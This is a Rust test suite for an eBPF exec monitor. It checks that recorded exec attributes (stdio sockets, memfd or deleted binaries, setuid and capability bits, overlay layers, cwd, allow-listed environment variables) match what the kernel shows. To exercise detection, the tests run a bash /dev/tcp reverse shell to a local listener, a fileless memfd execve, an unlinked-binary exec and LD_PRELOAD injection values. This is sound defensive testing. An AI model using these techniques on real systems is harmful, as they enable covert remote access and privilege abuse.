//! The exec record's kernel attributes (issue #13, "On exec"): decoding
//! and configuration checks that run anywhere, and tests against the
//! running kernel that attach the real `hf_exec` and look at what it saw —
//! a reverse shell's socket stdio, pipes, a memfd and a deleted binary, a
//! setuid copy run by `nobody`, file capabilities, an overlay upper layer,
//! a pty, the login session, the cwd and the environment allow-list.
//!
//! The kernel tests need root (they mount an overlay, chmod 4755 and set
//! file capabilities); without it they print `SKIPPED <test>: <reason>`
//! (a failure under `CI=true`, like the other kernel tests). Each loads its
//! own copy of the programs and looks only at its own processes.

use std::io::{Read as _, Write as _};
use std::mem::{offset_of, size_of};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, TcpListener};
use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use pipeline::event::{ExecAttributes, FdKind, StdioFd};
use pipeline::Event;

use super::loader::{self, Loaded, ProgramState};
use super::records::*;
use super::tests_kernel::kernel_or_skip;
use super::*;

// ---- configuration --------------------------------------------------------

use super::tests::{build_ebpf, check_error};

#[test]
fn exec_env_defaults_and_accepts_valid_names() {
    let source = build_ebpf("").expect("defaults");
    assert_eq!(
        source.settings().exec_env,
        ["LD_PRELOAD", "LD_LIBRARY_PATH", "GLIBC_TUNABLES", "HTTP_PROXY", "HTTPS_PROXY"]
    );
    let source = build_ebpf("exec_env = [\"_X\", \"a1\", \"PATH\"]").expect("valid");
    assert_eq!(source.settings().exec_env, ["_X", "a1", "PATH"]);
    assert!(build_ebpf("exec_env = []").expect("empty turns the scan off").settings().exec_env.is_empty());
    let longest = "A".repeat(32);
    let sixteen: Vec<String> = (0..16).map(|i| format!("\"V{i}\"")).collect();
    build_ebpf(&format!("exec_env = [\"{longest}\", {}]", sixteen[1..].join(", "))).expect("16 names, one of 32 bytes");
}

#[test]
fn bad_exec_env_names_are_reported_at_their_value() {
    check_error("exec_env = [\"LD_PRELOAD\", \"1ABC\"]", 3, 27, "exec_env name \"1ABC\" is not a variable name");
    check_error("exec_env = [\"A-B\"]", 3, 13, "is not a variable name ([A-Za-z_][A-Za-z0-9_]*)");
    check_error("exec_env = [\"A=B\"]", 3, 13, "is not a variable name");
    check_error("exec_env = [\"\"]", 3, 13, "an exec_env name must be 1 to 32 bytes, got 0");
    check_error(&format!("exec_env = [\"{}\"]", "A".repeat(33)), 3, 13, "got 33");
    check_error("exec_env = [\"PATH\", \"PATH\"]", 3, 21, "exec_env name `PATH` is listed twice");
    let seventeen: Vec<String> = (0..17).map(|i| format!("\"V{i}\"")).collect();
    check_error(&format!("exec_env = [{}]", seventeen.join(",")), 3, 12, "at most 16 exec_env names, got 17");
    check_error("exec_env = \"LD_PRELOAD\"", 3, 12, "");
}

#[test]
fn env_names_encode_as_the_kernel_compares_them() {
    let value = encode_env_name("LD_PRELOAD").expect("valid");
    assert_eq!(&value[..4], &11u32.to_le_bytes(), "length counts the '='");
    assert_eq!(&value[8..19], b"LD_PRELOAD=");
    assert!(value[19..].iter().all(|&b| b == 0));
    assert!(encode_env_name(&"A".repeat(32)).is_some());
    assert_eq!(encode_env_name(""), None);
    assert_eq!(encode_env_name(&"A".repeat(33)), None);
}

// ---- decoding -------------------------------------------------------------

/// A hand-made exec record: fixed part, then argv, cwd and env tails.
struct ExecBytes(Vec<u8>);

impl ExecBytes {
    fn new(argv: &[u8], cwd: &[u8], env: &[u8], flags: u32) -> ExecBytes {
        let fixed = size_of::<RawExecFixed>();
        let size = fixed + argv.len() + cwd.len() + env.len();
        let mut bytes = ExecBytes(vec![0; size]);
        bytes
            .put(offset_of!(RawHeader, kind), &kind::EXEC.to_le_bytes())
            .put(offset_of!(RawHeader, version), &RECORD_VERSION.to_le_bytes())
            .put(offset_of!(RawHeader, size), &(size as u32).to_le_bytes())
            .put(offset_of!(RawExecFixed, uid), &65534u32.to_le_bytes())
            .put(offset_of!(RawExecFixed, flags), &flags.to_le_bytes())
            .put(offset_of!(RawExecFixed, argv_len), &(argv.len() as u32).to_le_bytes())
            .put(offset_of!(RawExecFixed, cwd_len), &(cwd.len() as u16).to_le_bytes())
            .put(offset_of!(RawExecFixed, env_len), &(env.len() as u16).to_le_bytes())
            .put(fixed, argv)
            .put(fixed + argv.len(), cwd)
            .put(fixed + argv.len() + cwd.len(), env);
        bytes
    }

    fn put(&mut self, offset: usize, bytes: &[u8]) -> &mut ExecBytes {
        self.0[offset..offset + bytes.len()].copy_from_slice(bytes);
        self
    }

    fn stdio(&mut self, fd: usize, kind: u8, family: u16, protocol: u16, port: u16, addr: [u8; 16]) -> &mut Self {
        let at = offset_of!(RawExecFixed, stdio) + fd * size_of::<RawStdio>();
        self.put(at + offset_of!(RawStdio, kind), &[kind])
            .put(at + offset_of!(RawStdio, family), &family.to_le_bytes())
            .put(at + offset_of!(RawStdio, protocol), &protocol.to_le_bytes())
            .put(at + offset_of!(RawStdio, port), &port.to_le_bytes())
            .put(at + offset_of!(RawStdio, addr), &addr)
    }

    fn attributes(&self) -> ExecAttributes {
        match decode(&self.0).expect("decodes") {
            Record::Exec(exec) => (*exec.attributes).clone(),
            other => panic!("{other:?}"),
        }
    }
}

fn v4(a: [u8; 4]) -> [u8; 16] {
    let mut addr = [0; 16];
    addr[..4].copy_from_slice(&a);
    addr
}

#[test]
fn exec_attributes_decode_field_by_field() {
    let mut bytes =
        ExecBytes::new(b"/bin/true\0", b"main\0work\0", b"LD_PRELOAD=/tmp/x.so\0HTTP_PROXY=h:1\0", 0b1_1000);
    bytes
        .put(offset_of!(RawExecFixed, euid), &0u32.to_le_bytes())
        .put(offset_of!(RawExecFixed, suid), &1u32.to_le_bytes())
        .put(offset_of!(RawExecFixed, egid), &2u32.to_le_bytes())
        .put(offset_of!(RawExecFixed, sgid), &3u32.to_le_bytes())
        .put(offset_of!(RawExecFixed, cap_effective), &(1u64 << 13).to_le_bytes())
        .put(offset_of!(RawExecFixed, cap_permitted), &(1u64 << 40 | 1 << 13).to_le_bytes())
        .put(offset_of!(RawExecFixed, file_ino), &1234u64.to_le_bytes())
        .put(offset_of!(RawExecFixed, file_size), &35664u64.to_le_bytes())
        .put(offset_of!(RawExecFixed, file_mtime_ns), &1_663_632_000_123_456_789u64.to_le_bytes())
        .put(offset_of!(RawExecFixed, file_dev), &(254u32 << 20 | 1).to_le_bytes())
        .put(offset_of!(RawExecFixed, file_mode), &0o104755u32.to_le_bytes())
        .put(offset_of!(RawExecFixed, file_nlink), &0u32.to_le_bytes())
        .put(offset_of!(RawExecFixed, loginuid), &1000u32.to_le_bytes())
        .put(offset_of!(RawExecFixed, sessionid), &7u32.to_le_bytes())
        .put(offset_of!(RawExecFixed, tty), b"pts12\0")
        .stdio(0, 4, 2, 6, 4444, v4([127, 0, 0, 1]))
        .stdio(1, 4, 10, 17, 53, Ipv4Addr::new(10, 1, 2, 3).to_ipv6_mapped().octets())
        .stdio(2, 4, 10, 6, 0, [0; 16]);
    let attributes = bytes.attributes();
    assert_eq!((attributes.euid, attributes.suid, attributes.egid, attributes.sgid), (0, 1, 2, 3), "{attributes:?}");
    assert_eq!((attributes.cap_effective, attributes.cap_permitted), (1 << 13, 1 << 40 | 1 << 13));
    let file = &attributes.file;
    assert_eq!(
        (file.dev, file.inode, file.size, file.mtime_ns),
        (254 << 20 | 1, 1234, 35664, 1_663_632_000_123_456_789)
    );
    assert_eq!((file.mode, file.nlink, file.setuid(), file.setgid()), (0o104755, 0, true, false));
    assert_eq!((file.file_caps, file.memfd, file.overlay_upper, file.deleted()), (true, true, false, false));
    assert_eq!(attributes.stdio[0], StdioFd { kind: FdKind::Tcp, peer: Some((Ipv4Addr::LOCALHOST.into(), 4444)) });
    assert_eq!(
        attributes.stdio[1],
        StdioFd { kind: FdKind::Udp, peer: Some((Ipv4Addr::new(10, 1, 2, 3).into(), 53)) },
        "an IPv4-mapped peer reads as IPv4"
    );
    assert_eq!(attributes.stdio[2], StdioFd { kind: FdKind::Tcp, peer: None }, "not connected: no peer");
    assert_eq!(&*attributes.tty, "pts/12", "the kernel's pts12 is written as ps and who write it");
    assert_eq!((attributes.loginuid, attributes.session_id), (1000, 7));
    assert_eq!((&*attributes.cwd, attributes.cwd_truncated), ("/work/main", false));
    assert_eq!(attributes.env.iter().map(|e| &**e).collect::<Vec<_>>(), ["LD_PRELOAD=/tmp/x.so", "HTTP_PROXY=h:1"]);
    assert!(!attributes.env_truncated);
    let Ok(record) = decode(&bytes.0) else { panic!() };
    let Event::ProcessExec(exec) = events::to_event(record, 1, 10_000_000) else { panic!() };
    assert_eq!(exec.attributes.as_deref(), Some(&attributes), "every eBPF exec carries its attributes");
}

#[test]
fn stdio_kinds_tty_names_and_cwd_shapes() {
    let mut bytes = ExecBytes::new(b"", b"", b"", 0);
    bytes.stdio(0, 1, 0, 0, 0, [0; 16]).stdio(1, 2, 0, 0, 0, [0; 16]).stdio(2, 3, 0, 0, 0, [0; 16]);
    bytes.put(offset_of!(RawExecFixed, tty), b"tty1\0");
    let attributes = bytes.attributes();
    let kinds: Vec<FdKind> = attributes.stdio.iter().map(|fd| fd.kind).collect();
    assert_eq!(kinds, [FdKind::File, FdKind::Pipe, FdKind::Tty]);
    assert_eq!((&*attributes.tty, &*attributes.cwd), ("tty1", "/"), "no components: the root");
    bytes
        .stdio(0, 4, 1, 0, 0, [0; 16])
        .stdio(1, 4, 16, 0, 0, [0; 16])
        .stdio(2, 5, 0, 0, 0, [0; 16])
        .put(offset_of!(RawExecFixed, tty), b"pts\0");
    let attributes = bytes.attributes();
    let kinds: Vec<FdKind> = attributes.stdio.iter().map(|fd| fd.kind).collect();
    assert_eq!(kinds, [FdKind::Unix, FdKind::OtherSocket, FdKind::Other]);
    assert_eq!(&*attributes.tty, "pts", "only pts<number> is rewritten");
    let v6 = ExecBytes::new(b"", b"", b"", 0).stdio(0, 4, 10, 6, 22, Ipv6Addr::LOCALHOST.octets()).attributes();
    assert_eq!(v6.stdio[0].peer, Some((IpAddr::V6(Ipv6Addr::LOCALHOST), 22)));
    assert_eq!(v6.stdio[1], StdioFd::default(), "kind 0: no fd");

    let truncated = ExecBytes::new(b"", b"leaf\0mid\0", b"", 1 << 6).attributes();
    assert_eq!((&*truncated.cwd, truncated.cwd_truncated), ("…/mid/leaf", true));
    let unreadable = ExecBytes::new(b"", b"", b"", 1 << 7).attributes();
    assert_eq!(&*unreadable.cwd, "", "an unknown cwd is empty, not /");
    let env = ExecBytes::new(b"", b"", b"LD_PRELOAD=\0", 1 << 8).attributes();
    assert_eq!((env.env.len(), &*env.env[0], env.env_truncated), (1, "LD_PRELOAD=", true));
}

#[test]
fn malformed_exec_tails_are_errors() {
    let good = ExecBytes::new(b"a\0", b"tmp\0", b"X=1\0", 0);
    assert!(decode(&good.0).is_ok());
    let mut bad = ExecBytes::new(b"", b"", b"", 0);
    bad.put(offset_of!(RawExecFixed, cwd_len), &257u16.to_le_bytes());
    assert_eq!(decode(&bad.0), Err(DecodeError::BadField { field: "cwd_len", value: 257 }));
    let mut bad = ExecBytes::new(b"", b"", b"", 0);
    bad.put(offset_of!(RawExecFixed, env_len), &1025u16.to_le_bytes());
    assert_eq!(decode(&bad.0), Err(DecodeError::BadField { field: "env_len", value: 1025 }));
    let mut bad = ExecBytes::new(b"", b"", b"", 0);
    bad.put(offset_of!(RawExecFixed, env_len), &4u16.to_le_bytes());
    assert_eq!(decode(&bad.0), Err(DecodeError::SizeMismatch { declared: 524, actual: 520 }));
    let mut bad = ExecBytes::new(b"", b"", b"", 0);
    bad.stdio(1, 9, 0, 0, 0, [0; 16]);
    assert_eq!(decode(&bad.0), Err(DecodeError::BadField { field: "stdio.kind", value: 9 }));
    assert_eq!(
        decode(&good.0[..good.0.len() - 1]),
        Err(DecodeError::SizeMismatch { declared: good.0.len(), actual: good.0.len() - 1 })
    );
}

// ---- against the kernel ---------------------------------------------------

const WAIT: Duration = Duration::from_secs(20);

/// `hf_exec` alone, its ring read synchronously; keeps each record's size.
struct ExecSession {
    _loaded: Loaded,
    ring: super::ring_map::RingMap,
    execs: Vec<(usize, ExecRecord)>,
}

impl ExecSession {
    fn start(exec_env: &[&str]) -> ExecSession {
        let settings = LoadSettings {
            programs: vec![Program::Exec],
            ring_buffer_bytes: 4 << 20,
            wakeup_threshold_bytes: 0,
            file_prefixes: Vec::new(),
            exec_env: exec_env.iter().map(|name| (*name).to_owned()).collect(),
            ..LoadSettings::default()
        };
        let mut loaded = loader::load(&settings).expect("the eBPF object loads");
        for program in &loaded.report.programs {
            assert!(!matches!(program.state, ProgramState::Failed(_)), "{:?}", loaded.report);
        }
        let ring = loaded.take_ring().expect("ring buffer");
        ExecSession { _loaded: loaded, ring, execs: Vec::new() }
    }

    /// The first exec (in ring order) matching `wanted`, waiting up to WAIT.
    fn find(&mut self, wanted: impl Fn(&ExecRecord) -> bool) -> (usize, ExecRecord) {
        let deadline = Instant::now() + WAIT;
        loop {
            while let Some((len, record)) =
                self.ring.next(|item| (item.len(), decode(item).expect("every record decodes")))
            {
                if let Record::Exec(exec) = record {
                    self.execs.push((len, exec));
                }
            }
            if let Some(found) = self.execs.iter().find(|(_, exec)| wanted(exec)) {
                return found.clone();
            }
            assert!(Instant::now() < deadline, "no matching exec among {} seen", self.execs.len());
            std::thread::sleep(Duration::from_millis(10));
        }
    }

    fn of_pid(&mut self, pid: u32, filename_suffix: &str) -> ExecRecord {
        self.find(|exec| exec.proc.tgid == pid && exec.filename.ends_with(filename_suffix)).1
    }
}

fn run(command: &mut Command) -> u32 {
    let mut child = command.spawn().unwrap_or_else(|e| panic!("spawn {command:?}: {e}"));
    let pid = child.id();
    let _ = child.wait();
    pid
}

/// A fresh directory on a filesystem that honours setuid bits (not
/// `nosuid`), traversable by everyone.
fn suid_capable_dir() -> Option<tempfile::TempDir> {
    let target = Path::new(env!("CARGO_MANIFEST_DIR")).join("../target");
    for base in [std::env::temp_dir(), PathBuf::from("/var/tmp"), target] {
        let Ok(dir) = tempfile::tempdir_in(&base) else { continue };
        let options = Command::new("findmnt").args(["-no", "OPTIONS", "-T"]).arg(dir.path()).output();
        let nosuid = options.map(|o| String::from_utf8_lossy(&o.stdout).split(',').any(|o| o.trim() == "nosuid"));
        if nosuid.unwrap_or(true) {
            continue;
        }
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).expect("chmod dir");
        if ancestors_traversable(dir.path()) {
            return Some(dir);
        }
    }
    None
}

fn ancestors_traversable(path: &Path) -> bool {
    path.ancestors().all(|dir| std::fs::metadata(dir).map(|m| m.permissions().mode() & 0o001 != 0).unwrap_or(false))
}

fn copy_executable(from: &str, to: &Path, mode: u32) {
    std::fs::copy(from, to).expect("copy");
    std::fs::set_permissions(to, std::fs::Permissions::from_mode(mode)).expect("chmod");
}

#[test]
fn a_reverse_shell_shows_its_stdio_as_the_tcp_connection() {
    if !kernel_or_skip("ebpf::tests_exec::a_reverse_shell_shows_its_stdio_as_the_tcp_connection") {
        return;
    }
    let mut session = ExecSession::start(&[]);
    let listener = TcpListener::bind("127.0.0.1:0").expect("listener");
    let port = listener.local_addr().expect("addr").port();
    let mut shell = Command::new("bash")
        .arg("-c")
        .arg(format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"))
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("bash");
    listener.set_nonblocking(true).expect("nonblocking");
    let deadline = Instant::now() + WAIT;
    let mut stream = loop {
        match listener.accept() {
            Ok((stream, _)) => break stream,
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock && Instant::now() < deadline => {
                std::thread::sleep(Duration::from_millis(10))
            }
            Err(e) => panic!("the shell never connected: {e}"),
        }
    };
    stream.set_nonblocking(false).expect("blocking");
    stream.write_all(b"exit\n").expect("send exit");
    let mut sink = Vec::new();
    let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
    let _ = stream.read_to_end(&mut sink);
    let _ = shell.wait();
    let peer = Some((IpAddr::from(Ipv4Addr::LOCALHOST), port));
    let (_, exec) = session
        .find(|exec| exec.argv.iter().collect::<Vec<_>>() == ["bash", "-i"] && exec.attributes.stdio[0].peer == peer);
    let stdio = &exec.attributes.stdio;
    for (fd, io) in stdio.iter().enumerate() {
        assert_eq!(io, &StdioFd { kind: FdKind::Tcp, peer }, "fd {fd} of the interactive bash: {exec:?}");
    }

    let pid = run(Command::new("bash")
        .args(["-c", "true"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped()));
    let exec = session.of_pid(pid, "bash");
    let kinds: Vec<FdKind> = exec.attributes.stdio.iter().map(|fd| fd.kind).collect();
    assert_eq!(kinds, [FdKind::Pipe; 3], "bash -c true from pipes");
    let pid = run(Command::new("/bin/true").stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()));
    let kinds: Vec<FdKind> = session.of_pid(pid, "true").attributes.stdio.iter().map(|fd| fd.kind).collect();
    assert_eq!(kinds, [FdKind::Other; 3], "/dev/null is a character device that is not a tty");
    let tmp = tempfile::tempdir().expect("tempdir");
    let file = std::fs::File::create(tmp.path().join("out")).expect("file");
    let pid = run(Command::new("/bin/true").stdin(Stdio::null()).stdout(file).stderr(Stdio::inherit()));
    assert_eq!(session.of_pid(pid, "true").attributes.stdio[1].kind, FdKind::File);
}

#[test]
fn a_pty_is_the_controlling_tty_and_the_stdio() {
    if !kernel_or_skip("ebpf::tests_exec::a_pty_is_the_controlling_tty_and_the_stdio") {
        return;
    }
    let mut session = ExecSession::start(&[]);
    // script(1) runs the command on a new pty as its controlling terminal.
    let marker = format!("hf-tty-{}", std::process::id());
    let status = Command::new("script")
        .args(["-qec", &format!("/bin/echo {marker}"), "/dev/null"])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .status();
    if !status.is_ok_and(|s| s.success()) {
        pipeline::testing::skip("ebpf::tests_exec::a_pty_is_the_controlling_tty_and_the_stdio", "script(1) failed");
        return;
    }
    let (_, exec) = session.find(|exec| exec.argv.iter().any(|arg| arg == marker) && &*exec.filename == "/bin/echo");
    let tty = &exec.attributes.tty;
    assert!(tty.starts_with("pts/") && tty[4..].bytes().all(|b| b.is_ascii_digit()), "{tty}");
    let kinds: Vec<FdKind> = exec.attributes.stdio.iter().map(|fd| fd.kind).collect();
    assert_eq!(kinds, [FdKind::Tty; 3]);
    let pid = run(Command::new("/bin/true").stdin(Stdio::null()));
    let own = std::fs::read_to_string("/proc/self/stat").expect("stat");
    let tty_nr: i64 = own
        .rsplit(')')
        .next()
        .and_then(|rest| rest.split_whitespace().nth(4))
        .and_then(|v| v.parse().ok())
        .expect("tty_nr");
    let exec = session.of_pid(pid, "true");
    assert_eq!(exec.attributes.tty.is_empty(), tty_nr == 0, "a child shares this test's controlling tty (or none)");
}

#[test]
fn memfd_and_unlinked_executables_are_flagged() {
    if !kernel_or_skip("ebpf::tests_exec::memfd_and_unlinked_executables_are_flagged") {
        return;
    }
    let mut session = ExecSession::start(&[]);
    let script = "import os\n\
                  fd = os.memfd_create('hf-exec', 0)\n\
                  os.write(fd, open('/bin/true', 'rb').read())\n\
                  os.execve('/proc/self/fd/%d' % fd, ['hf-memfd-true'], {})\n";
    let pid = run(Command::new("python3").args(["-c", script]));
    let (_, exec) = session.find(|exec| exec.proc.tgid == pid && exec.argv.iter().next() == Some("hf-memfd-true"));
    let file = &exec.attributes.file;
    assert!(file.memfd, "{exec:?}");
    assert_eq!((file.nlink, file.deleted(), file.mode & 0o170000), (0, false, 0o100000), "a memfd has no links");

    let dir = tempfile::tempdir().expect("tempdir");
    let copy = dir.path().join("doomed-true");
    copy_executable("/bin/true", &copy, 0o755);
    let script = format!(
        "import os\n\
         fd = os.open('{}', os.O_RDONLY)\n\
         os.unlink('{}')\n\
         os.execve('/proc/self/fd/%d' % fd, ['hf-deleted-true'], {{}})\n",
        copy.display(),
        copy.display()
    );
    let pid = run(Command::new("python3").args(["-c", &script]));
    let (_, exec) = session.find(|exec| exec.proc.tgid == pid && exec.argv.iter().next() == Some("hf-deleted-true"));
    let file = &exec.attributes.file;
    assert_eq!((file.nlink, file.memfd, file.deleted()), (0, false, true), "{exec:?}");
    assert_eq!(file.size, std::fs::metadata("/bin/true").expect("stat").len());
}

#[test]
fn the_executable_file_is_the_one_stat_sees() {
    if !kernel_or_skip("ebpf::tests_exec::the_executable_file_is_the_one_stat_sees") {
        return;
    }
    let mut session = ExecSession::start(&[]);
    let pid = run(Command::new("/bin/true").arg("x"));
    let (bytes, exec) = session.find(|exec| exec.proc.tgid == pid && &*exec.filename == "/bin/true");
    let meta = std::fs::metadata("/bin/true").expect("stat");
    let file = &exec.attributes.file;
    // Userspace's dev_t (glibc makedev) → the kernel's major << 20 | minor.
    let dev = meta.dev();
    let major = (dev >> 8) & 0xfff | (dev >> 32) & !0xfff;
    let minor = dev & 0xff | (dev >> 12) & !0xff;
    assert_eq!(file.dev, major << 20 | minor, "{exec:?}");
    assert_eq!(
        (file.inode, file.size, file.mode, file.nlink),
        (meta.ino(), meta.len(), meta.mode(), meta.nlink() as u32)
    );
    assert_eq!(file.mtime_ns, meta.mtime() as u64 * 1_000_000_000 + meta.mtime_nsec() as u64);
    assert!(!file.memfd && !file.overlay_upper && !file.file_caps && !file.setuid());
    let attributes = &exec.attributes;
    assert_eq!((attributes.euid, attributes.suid, attributes.egid, attributes.sgid), (0, 0, 0, 0));
    assert_eq!(attributes.cap_permitted, attributes.cap_effective, "root: every capability");
    assert!(attributes.cap_effective & (1 << 21) != 0, "CAP_SYS_ADMIN");
    let own = |name: &str| -> u32 {
        let text = std::fs::read_to_string(format!("/proc/self/{name}")).expect(name);
        text.trim().parse().expect(name)
    };
    assert_eq!((attributes.loginuid, attributes.session_id), (own("loginuid"), own("sessionid")));
    eprintln!("exec record of `/bin/true x` (cwd {}): {bytes} bytes", attributes.cwd);

    // Setting the login uid (once, as root) starts a new audit session.
    let pid = run(Command::new("bash").args(["-c", "echo 4242 > /proc/self/loginuid && exec /bin/true"]));
    let exec = session.of_pid(pid, "/bin/true");
    assert_eq!(exec.attributes.loginuid, 4242, "{exec:?}");
    assert_ne!(exec.attributes.session_id, u32::MAX);
}

#[test]
fn a_setuid_copy_run_by_nobody_has_euid_0_and_file_caps_are_seen() {
    let test = "ebpf::tests_exec::a_setuid_copy_run_by_nobody_has_euid_0_and_file_caps_are_seen";
    if !kernel_or_skip(test) {
        return;
    }
    let Some(dir) = suid_capable_dir() else {
        pipeline::testing::skip(test, "no temporary directory on a filesystem without nosuid that nobody can reach");
        return;
    };
    let mut session = ExecSession::start(&[]);
    let id = dir.path().join("hf-suid-id");
    copy_executable("/bin/id", &id, 0o4755);
    let nobody = ["--reuid", "65534", "--regid", "65534", "--clear-groups"];
    let output = Command::new("setpriv").args(nobody).arg(&id).arg("-u").output().expect("setpriv");
    assert_eq!(String::from_utf8_lossy(&output.stdout).trim(), "0", "the setuid copy runs with euid 0: {output:?}");
    let (_, exec) = session.find(|exec| exec.filename.ends_with("hf-suid-id"));
    assert_eq!((exec.uid, exec.attributes.euid, exec.attributes.suid, exec.gid), (65534, 0, 0, 65534), "{exec:?}");
    assert!(exec.attributes.file.setuid() && exec.attributes.file.mode & 0o4000 != 0);
    assert!(!exec.attributes.file.file_caps, "setuid-root is not a file capability");

    // security.capability v2: effective, permitted = CAP_NET_RAW (13).
    let capped = dir.path().join("hf-caps-true");
    copy_executable("/bin/true", &capped, 0o755);
    let set = Command::new("setcap").arg("cap_net_raw+ep").arg(&capped).status();
    if !set.is_ok_and(|s| s.success()) {
        pipeline::testing::skip(test, "setcap is missing or failed: file capabilities not checked");
        return;
    }
    let pid = run(Command::new("setpriv").args(nobody).arg(&capped));
    let exec = session.of_pid(pid, "hf-caps-true");
    assert_eq!((exec.uid, exec.attributes.euid), (65534, 65534));
    assert_eq!(exec.attributes.cap_permitted, 1 << 13, "{exec:?}");
    assert!(exec.attributes.file.file_caps && !exec.attributes.file.setuid());
    let pid = run(Command::new("setpriv").args(nobody).arg("/bin/true"));
    let exec = session.of_pid(pid, "/bin/true");
    assert_eq!((exec.attributes.cap_permitted, exec.attributes.file.file_caps), (0, false));

    // Root of a user namespace (uid 65534 outside) gets every capability
    // there: that is not a file capability.
    let pid = run(Command::new("setpriv").args(nobody).args(["unshare", "-Ur"]).arg(&capped));
    let exec = session.of_pid(pid, "hf-caps-true");
    if exec.attributes.cap_permitted == 1 << 13 {
        pipeline::testing::skip(test, "unshare -Ur did not enter a user namespace: namespace root not checked");
        return;
    }
    assert_eq!((exec.uid, exec.attributes.file.file_caps), (65534, false), "{exec:?}");
    assert!(exec.attributes.cap_permitted & (1 << 21) != 0, "CAP_SYS_ADMIN in its namespace");
}

#[test]
fn an_executable_on_an_overlay_upper_layer_is_flagged() {
    let test = "ebpf::tests_exec::an_executable_on_an_overlay_upper_layer_is_flagged";
    if !kernel_or_skip(test) {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let path = |name: &str| dir.path().join(name);
    for name in ["lower", "upper", "work", "merged"] {
        std::fs::create_dir(path(name)).expect("mkdir");
    }
    copy_executable("/bin/true", &path("lower").join("image-true"), 0o755);
    copy_executable("/bin/true", &path("upper").join("drift-true"), 0o755);
    let options = format!(
        "lowerdir={},upperdir={},workdir={}",
        path("lower").display(),
        path("upper").display(),
        path("work").display()
    );
    let mounted = Command::new("mount").args(["-t", "overlay", "overlay", "-o", &options]).arg(path("merged")).status();
    if !mounted.is_ok_and(|s| s.success()) {
        pipeline::testing::skip(test, "cannot mount an overlay here");
        return;
    }
    let mut session = ExecSession::start(&[]);
    let image = run(&mut Command::new(path("merged").join("image-true")));
    let drift = run(&mut Command::new(path("merged").join("drift-true")));
    let image = session.of_pid(image, "image-true");
    let drift = session.of_pid(drift, "drift-true");
    let _ = Command::new("umount").arg(path("merged")).status();
    assert!(!image.attributes.file.overlay_upper, "lower layer only: {image:?}");
    assert!(drift.attributes.file.overlay_upper, "upper layer: {drift:?}");
}

#[test]
fn the_cwd_is_the_process_working_directory() {
    if !kernel_or_skip("ebpf::tests_exec::the_cwd_is_the_process_working_directory") {
        return;
    }
    let mut session = ExecSession::start(&[]);
    let here = std::env::current_dir().expect("cwd");
    let pid = run(&mut Command::new("/bin/true"));
    let exec = session.of_pid(pid, "true");
    assert_eq!((&*exec.attributes.cwd, exec.attributes.cwd_truncated), (here.to_str().expect("utf-8"), false));

    // Across mounts: sysfs and proc under the root filesystem.
    for dir in ["/sys/kernel", "/proc/sys", "/"] {
        let pid = run(Command::new("/bin/true").current_dir(dir));
        let exec = session.of_pid(pid, "true");
        assert_eq!((&*exec.attributes.cwd, exec.attributes.cwd_truncated), (dir, false));
    }
    // Deeper than the kernel's bound: the leaf end is kept, the top cut.
    let tmp = tempfile::tempdir().expect("tempdir");
    let deep = (0..30).fold(tmp.path().to_path_buf(), |path, i| path.join(format!("level-{i:02}")));
    std::fs::create_dir_all(&deep).expect("mkdir -p");
    let pid = run(Command::new("/bin/true").current_dir(&deep));
    let exec = session.of_pid(pid, "true");
    let cwd = &exec.attributes.cwd;
    assert!(exec.attributes.cwd_truncated && cwd.starts_with("…/") && cwd.ends_with("/level-28/level-29"), "{cwd}");
    assert!(deep.to_str().expect("utf-8").ends_with(cwd.trim_start_matches('…')), "{cwd}");
}

#[test]
fn allow_listed_environment_variables_are_captured_and_others_are_not() {
    if !kernel_or_skip("ebpf::tests_exec::allow_listed_environment_variables_are_captured_and_others_are_not") {
        return;
    }
    let mut session = ExecSession::start(&DEFAULT_EXEC_ENV);
    let pid = run(Command::new("/bin/true").env("LD_PRELOAD", "/tmp/x.so").env("HF_SECRET", "1").stderr(Stdio::null()));
    let exec = session.of_pid(pid, "true");
    let env: Vec<&str> = exec.attributes.env.iter().map(|e| &**e).collect();
    assert!(env.contains(&"LD_PRELOAD=/tmp/x.so"), "{env:?}");
    assert!(!env.iter().any(|e| e.starts_with("HF_SECRET")), "{env:?}");
    // Cut: an allow-listed entry of 256 bytes or more (cargo's long
    // LD_LIBRARY_PATH), or an environment beyond the scanned 8 KiB.
    let inherited: Vec<(String, String)> = std::env::vars().collect();
    let area: usize = inherited.iter().map(|(k, v)| k.len() + v.len() + 2).sum::<usize>() + 32;
    let long_listed =
        inherited.iter().any(|(k, v)| DEFAULT_EXEC_ENV.contains(&k.as_str()) && k.len() + v.len() + 2 >= 256);
    if area < 8000 {
        assert_eq!(exec.attributes.env_truncated, long_listed, "{area} bytes of environment: {exec:?}");
    }

    // A name at the start of a later read inside a long value is not a
    // variable; a long allow-listed value is cut and flagged.
    let hidden = format!("{}LD_PRELOAD=evil", "x".repeat(255 - "HF_LONG=".len()));
    let long = "p".repeat(400);
    let pid = run(Command::new("/bin/true")
        .env_clear()
        .env("HF_LONG", &hidden)
        .env("HTTP_PROXY", &long)
        .env("GLIBC_TUNABLES", "glibc.malloc.check=3")
        .stderr(Stdio::null()));
    let exec = session.of_pid(pid, "true");
    let env: Vec<&str> = exec.attributes.env.iter().map(|e| &**e).collect();
    // Command passes its variables sorted by name.
    assert_eq!(env.len(), 2, "{env:?}");
    assert_eq!(env[0], "GLIBC_TUNABLES=glibc.malloc.check=3");
    assert_eq!(env[1].len(), 255, "one entry keeps 255 bytes");
    assert!(env[1].starts_with("HTTP_PROXY=ppp"));
    assert!(exec.attributes.env_truncated);

    // Without an allow-list nothing is scanned.
    let mut off = ExecSession::start(&[]);
    let pid = run(Command::new("/bin/true").env("LD_PRELOAD", "/tmp/x.so").stderr(Stdio::null()));
    let exec = off.of_pid(pid, "true");
    assert!(exec.attributes.env.is_empty() && !exec.attributes.env_truncated, "{exec:?}");
}
